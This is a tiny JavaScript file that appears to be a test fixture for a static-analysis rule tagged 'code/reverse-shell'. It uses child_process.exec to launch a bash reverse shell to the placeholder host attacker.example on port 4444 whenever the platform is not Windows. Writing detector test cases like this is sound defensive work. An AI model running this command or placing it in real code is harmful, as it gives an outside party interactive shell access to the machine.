const { exec } = require('child_process');

if (process.platform !== 'win32') {
  // ruleid: code/reverse-shell
  exec("bash -c 'bash -i >& /dev/tcp/attacker.example/4444 0>&1'");
}
